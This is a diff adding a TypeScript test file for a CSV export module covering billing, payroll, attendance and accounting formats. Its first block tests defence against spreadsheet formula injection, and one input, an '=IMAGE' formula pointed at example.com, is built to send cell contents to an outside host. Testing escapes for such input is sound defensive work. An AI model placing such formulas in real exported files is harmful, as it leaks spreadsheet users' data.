@@ -1,0 +1,218 @@
+import fc from 'fast-check';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, test } from 'vitest';
+
+import { attendanceCsv, billingCsv, csvChunks, payrollCsv } from '../../../src/render/csv/csv.ts';
+import type { CsvOptions } from '../../../src/render/csv/csv.ts';
+import type { BillingReport } from '../../../src/core/reports/report.ts';
+import { billing, charge, correction, joined, pay, payroll } from '../../support/statements.ts';
+
+type Record = Readonly<{ [column: string]: string }>;
+
+async function rowsOf(chunks: AsyncIterable<string>): Promise<Record[]> {
+  return parse(await joined(chunks), { columns: true, record_delimiter: '\r\n' });
+}
+
+async function textCell(text: string, options: CsvOptions = {}): Promise<string> {
+  const csv = await joined(csvChunks([{ header: 'name', text: (name: string) => name }], [text], options));
+  return (parse(csv, { record_delimiter: '\r\n', bom: true })[1] as string[])[0]!;
+}
+
+describe('a spreadsheet takes no name for a formula', () => {
+  test.each([
+    ['=IMAGE("http://example.com/?"&A1)', `'=IMAGE("http://example.com/?"&A1)`],
+    ['+44 20 7946 0000', `'+44 20 7946 0000`],
+    ['-1+1', `'-1+1`],
+    ['@SUM(A1)', `'@SUM(A1)`],
+    ['\t=1+1', `'\t=1+1`],
+    ['\r=1+1', `'\r=1+1`],
+    ['\n=1+1', `'\n=1+1`],
+    ['\tAna', `'\tAna`],
+    [' =1+1', `' =1+1`],
+    ['\u{200b}=1+1', `'\u{200b}=1+1`],
+    ['\u{ff1d}1+1', `'\u{ff1d}1+1`],
+    ["'=1+1", "'=1+1"],
+    ['Ana = Silva', 'Ana = Silva'],
+    ['Ana-Maria', 'Ana-Maria'],
+  ])('%j', async (name, cell) => {
+    expect(await textCell(name)).toBe(cell);
+  });
+
+  test('whatever it is', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.string({ unit: 'binary' }), async (name) => {
+        const cell = await textCell(name);
+        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(cell.endsWith(name)).toBe(true);
+      }),
+    );
+  });
+});
+
+describe('the plain CSV', () => {
+  test('has a row a line and correction, with plain decimals', async () => {
+    const rows = await rowsOf(
+      billingCsv(billing([charge({ flags: ['review', 'overrun'] })], [correction({ amountMinor: -840 })])),
+    );
+
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      period: '2026-01',
+      family_id: '1',
+      name: 'Silva',
+      currency: 'EUR',
+      line_id: 'c5-3',
+      date: '2026-01-16',
+      start_time: '2026-01-16T16:00:00Z',
+      student_name: 'Ana Silva',
+      billed_minutes: '60',
+      rate: '42.00',
+      amount: '42.00',
+      amount_minor: '4200',
+      flags: 'review overrun',
+      adjustment_id: '',
+    });
+    expect(rows[1]).toMatchObject({
+      line_id: 'c2-3',
+      adjustment_id: 'a1-c2-3',
+      closed_period: '2025-12',
+      amount: '-8.40',
+      rate: '',
+    });
+  });
+
+  test('keeps names of every script, with commas, quotes and line breaks', async () => {
+    const subject = 'Élève, «Ωμέγα»\n"Жуков" 山田 🎓';
+    const [row] = await rowsOf(billingCsv(billing([charge({ subject })])));
+
+    expect(row?.['subject']).toBe(subject);
+  });
+
+  test('ends every record with CRLF and starts with a byte order mark only when asked', async () => {
+    const report = payroll([pay()]);
+    const plain = await joined(payrollCsv(report));
+
+    expect(plain.split('\r\n')).toHaveLength(3);
+    expect(plain.startsWith('period,teacher_email,')).toBe(true);
+    expect(await joined(payrollCsv(report, { bom: true }))).toBe(`\u{feff}${plain}`);
+  });
+
+  test('of an empty report is its header', async () => {
+    expect((await joined(billingCsv(billing([])))).split('\r\n')).toEqual([expect.stringContaining('line_id'), '']);
+  });
+
+  test('gives attendance by person and month', async () => {
+    const csv = attendanceCsv([
+      {
+        person_id: 3,
+        email: 'ana@example.com',
+        name: 'Ana',
+        month: '2026-01',
+        expected: 4,
+        present: 2,
+        late: 1,
+        absent: 1,
+        excused: 0,
+        pending: 0,
+        visited: 0,
+        minutes: 178.5,
+      },
+    ]);
+
+    expect(await joined(csv)).toBe(
+      'month,email,name,expected,present,late,absent,excused,pending,visited,minutes\r\n' +
+        '2026-01,ana@example.com,Ana,4,2,1,1,0,0,0,178.5\r\n',
+    );
+  });
+});
+
+describe('the CSV for accounting', () => {
+  const accounting = { date: '2026-02-03', dueDate: '2026-02-17' };
+
+  async function invoices(report: BillingReport): Promise<Record[]> {
+    return rowsOf(
+      billingCsv(report, {
+        variant: 'accounting',
+        accounting: {
+          ...accounting,
+          numbers: new Map([['2026-01-F1-EUR', 'INV-0042']]),
+          emails: new Map([['2026-01-F1-EUR', 'silva@example.com']]),
+        },
+      }),
+    );
+  }
+
+  test('has one of each line at its whole amount, so that nobody rounds again', async () => {
+    const tax = { code: 'VAT', basisPoints: 2000, inclusive: true, per: 'line' } as const;
+    const [row] = await invoices(billing([charge({ billedMs: 3_400_000, amountMinor: 3967, tax, taxMinor: 661 })]));
+
+    expect(row).toEqual({
+      ContactName: 'Silva',
+      EmailAddress: 'silva@example.com',
+      InvoiceNumber: 'INV-0042',
+      Reference: '2026-01-F1-EUR',
+      InvoiceDate: '2026-02-03',
+      DueDate: '2026-02-17',
+      Description: '2026-01-16 Algebra, Ana Silva, 56.67 min',
+      Quantity: '1',
+      UnitAmount: '39.67',
+      TaxType: 'VAT',
+      TaxAmount: '6.61',
+      LineAmountType: 'Inclusive',
+      Currency: 'EUR',
+    });
+  });
+
+  test('leaves tax on the whole statement to the accounts', async () => {
+    const tax = { code: 'GST', basisPoints: 1000, inclusive: false, per: 'statement' } as const;
+    const [row] = await invoices(billing([charge({ tax })]));
+
+    expect(row).toMatchObject({ TaxType: 'GST', TaxAmount: '', LineAmountType: 'Exclusive' });
+  });
+
+  test('takes a correction back with a line of its own', async () => {
+    const rows = await invoices(billing([charge()], [correction({ amountMinor: -840, ms: -720_000 })]));
+
+    expect(rows[1]).toMatchObject({
+      Description: 'Correction of c2-3: 2025-12-12 Algebra, ana@example.com, -12 min',
+      Quantity: '1',
+      UnitAmount: '-8.40',
+      TaxType: '',
+      LineAmountType: 'NoTax',
+    });
+  });
+
+  test('of payroll adds up to the payout, not to the total', async () => {
+    const overpaid = correction({ side: 'pay', personId: 11, personEmail: 'tess@example.com', amountMinor: -4000 });
+    const report = payroll([pay({ amountMinor: 2500 })], [overpaid], new Map([[11, new Map([['EUR', -100]])]]));
+    const rows = await rowsOf(payrollCsv(report, { variant: 'accounting', accounting }));
+
+    expect(rows.map((row) => row['UnitAmount'])).toEqual(['25.00', '-40.00', '-1.00', '16.00']);
+    expect(rows[0]).toMatchObject({ ContactName: 'Tess Moreau', EmailAddress: 'tess@example.com' });
+  });
+});
+
+test('ten thousand lines are read no further ahead than a chunk', async () => {
+  const [line] = billing([charge()]).families[0]!.lines;
+  let read = 0;
+  function* lines() {
+    for (; read < 10_000; read += 1) yield { ...line!, line_id: `c${read}-3` };
+  }
+  const columns = [
+    { header: 'line_id', text: ({ line_id }: { readonly line_id: string }) => line_id },
+    { header: 'amount_minor', number: ({ amount_minor }: { readonly amount_minor: number }) => amount_minor },
+  ];
+  let chunks = 0;
+  let records = -1;
+  let longest = 0;
+  for await (const chunk of csvChunks(columns, lines())) {
+    records += chunk.split('\r\n').length - 1;
+    longest = Math.max(longest, chunk.length);
+    expect(read - records).toBeLessThanOrEqual(500);
+    chunks += 1;
+  }
+
+  expect(records).toBe(10_000);
+  expect(chunks).toBe(21);
+  expect(longest).toBeLessThan(10_000);
+});
